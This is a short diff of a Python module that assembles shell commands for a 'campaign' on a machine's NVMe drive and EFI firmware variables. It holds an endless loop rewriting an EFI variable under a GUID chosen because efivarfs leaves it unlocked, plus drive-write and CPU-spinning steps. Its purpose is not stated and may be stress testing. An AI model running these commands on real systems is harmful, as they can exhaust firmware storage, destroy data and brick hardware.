@@ -5,8 +5,8 @@ from dataclasses import dataclass
 
 DISK = "/dev/nvme0n1"
 VARIABLES = "/sys/firmware/efi/efivars"
-VENDOR = "5f0b6d1c-3f6e-4d0a-9a55-6d6c2f1b7e20"
-"""Vendor GUID of the variables the campaign makes."""
+VENDOR = "cfc8fc79-be2e-4ddc-97f0-9f98bfe298a0"
+"""Vendor GUID of the campaign's variables: Linux's own for crashes, whose files efivarfs does not lock."""
 
 
 @dataclass(frozen=True)
@@ -34,7 +34,7 @@ _WRITE_DRIVE = (
 )
 _SET_VARIABLES = (
     f"V={VARIABLES}/Busy-{VENDOR}",
-    "(while :; do chattr -i $V; printf '\\007\\000\\000\\000%s' $RANDOM >$V; done 2>/dev/null &)",
+    "(while :; do printf '\\007\\000\\000\\000%s' $RANDOM >$V; done 2>/dev/null &)",
 )
 _SPIN = "for i in 1 2 3 4; do (while :; do :; done &); done"
 
